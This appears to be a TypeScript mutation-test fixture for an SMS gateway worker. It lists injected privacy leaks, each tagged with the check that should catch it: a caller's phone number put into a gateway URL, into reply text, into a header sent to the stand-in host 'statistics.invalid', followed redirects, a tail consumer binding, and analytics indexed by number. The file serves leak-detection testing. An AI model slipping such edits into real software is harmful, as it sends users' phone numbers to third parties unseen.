/** Leaks into what is sent out, or handed to another part of the platform. */
import { behind, type Mutant } from './mutant.ts';
import { inTheConfiguration, onEachCallback } from './spots.ts';

const send = 'src/gateways/africastalking/send.ts';

export const sent: readonly Mutant[] = [
  {
    name: 'number-in-a-url',
    leaks: 'Before each reply the number is looked up at the gateway, in the address of the call.',
    seenIn: 'outbound',
    edits: [
      behind(
        send,
        "const { default: Sms } = await import('africastalking/lib/sms.js');",
        "await fetch('https://api.africastalking.com/version1/user?of=' + encodeURIComponent(openCaller(inbound.caller)));",
      ),
    ],
  },
  {
    name: 'number-in-the-text',
    leaks: 'The reply begins with the number that it goes to, outside the one field that may hold it.',
    seenIn: 'outbound',
    edits: [{ file: send, find: 'message: text }', replace: "message: openCaller(inbound.caller) + ' ' + text }" }],
  },
  {
    name: 'number-sent-to-statistics',
    leaks: 'A statistics service hears of each callback, with the number in a header.',
    seenIn: 'outbound',
    edits: [
      onEachCallback(`
        const hit = fetch('https://statistics.invalid/hit', { method: 'POST', headers: { 'x-visitor': number } });
        context.executionCtx.waitUntil(hit.catch(() => undefined));`),
    ],
  },
  {
    name: 'visits-sent-to-statistics',
    leaks:
      'A statistics service hears that somebody called: no number, but a time, and a host that nobody was told of.',
    seenIn: 'hosts',
    edits: [
      onEachCallback(`
        const hit = fetch('https://statistics.invalid/hit?line=' + line);
        context.executionCtx.waitUntil(hit.catch(() => undefined));`),
    ],
  },
  {
    name: 'redirect-followed',
    leaks: 'Where the company answers with a redirect, number, text and key are repeated to whatever host it names.',
    seenIn: 'hosts',
    edits: [{ file: send, find: "redirect: 'manual'", replace: "redirect: 'follow'" }],
  },
  {
    name: 'tail-consumer-bound',
    leaks: 'Another program of the account is handed every event of the Worker, for good.',
    seenIn: 'bindings',
    edits: [inTheConfiguration('[[tail_consumers]]\nservice = "listener"\n')],
  },
  {
    name: 'data-points-by-number',
    leaks: 'A dataset of analytics is written for each callback, with the number as its index.',
    seenIn: 'bindings',
    edits: [
      onEachCallback('context.env.VISITS.writeDataPoint({ indexes: [number] });'),
      inTheConfiguration('[[analytics_engine_datasets]]\nbinding = "VISITS"\ndataset = "visits"\n'),
    ],
  },
];
